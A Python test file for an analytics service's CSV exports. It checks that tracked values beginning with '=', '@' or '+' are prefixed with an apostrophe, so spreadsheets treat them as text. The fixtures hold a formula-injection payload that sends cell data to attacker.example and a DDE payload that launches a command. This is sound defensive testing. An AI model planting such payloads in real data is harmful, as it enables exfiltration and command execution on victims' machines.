"""CSV exports open in a spreadsheet as text, whatever a tracked value begins with."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime

import httpx
import pytest
from fastapi import FastAPI

from commbase.core.time import FrozenClock, use_clock
from tests.identity.factories import make_tenant

NOW = datetime(2026, 6, 17, 10, 30, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"open")'


@pytest.fixture
def clock() -> Iterator[FrozenClock]:
    frozen = FrozenClock(NOW)
    with use_clock(frozen):
        yield frozen


def rows_of(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text)))


async def test_series_csv_neutralises_a_formula_in_a_group_value(
    app: FastAPI, client: httpx.AsyncClient, clock: FrozenClock
) -> None:
    tenant = await make_tenant(app)
    for source in (FORMULA, "@SUM(1+1)", "news"):
        tracked = await client.post(
            "/v1/track/pageview",
            json={"url": "https://shop.example/", "utm_source": source},
            headers=tenant.headers,
        )
        assert tracked.status_code == 201, tracked.text
    clock.advance(60)  # `to` (now) is exclusive

    rows = rows_of(
        await client.get(
            "/v1/analytics/series.csv?metrics=pageviews.total&interval=year"
            "&group_by=utm_source&from=2026-01-01T00:00:00Z",
            headers=tenant.headers,
        )
    )

    assert rows[0] == ["metric", "group", "start", "value"]
    assert sorted(row[1] for row in rows[1:]) == ["'" + FORMULA, "'@SUM(1+1)", "news"]
    assert {row[3] for row in rows[1:]} == {"1"}  # numbers stay numbers


async def test_snapshots_csv_neutralises_a_formula_in_an_account_id(
    app: FastAPI, client: httpx.AsyncClient, clock: FrozenClock
) -> None:
    tenant = await make_tenant(app)
    tracked = await client.post(
        "/v1/track/events",
        json=[{"type": "order.paid", "account_id": "+cmd|' /C calc'!A0"}],
        headers=tenant.headers,
    )
    assert tracked.json()["accepted"] == 1, tracked.text
    made = await client.post(
        "/v1/analytics/snapshots",
        json={"type": "daily", "date": "2026-06-17", "account_id": "+cmd|' /C calc'!A0"},
        headers=tenant.headers,
    )
    assert made.status_code == 201, made.text

    rows = rows_of(await client.get("/v1/analytics/snapshots.csv", headers=tenant.headers))

    header = rows[0]
    assert header[:3] == ["date", "type", "account_id"]
    [row] = rows[1:]
    assert row[2] == "'+cmd|' /C calc'!A0"
    assert row[header.index("tracking.events")] == "1"
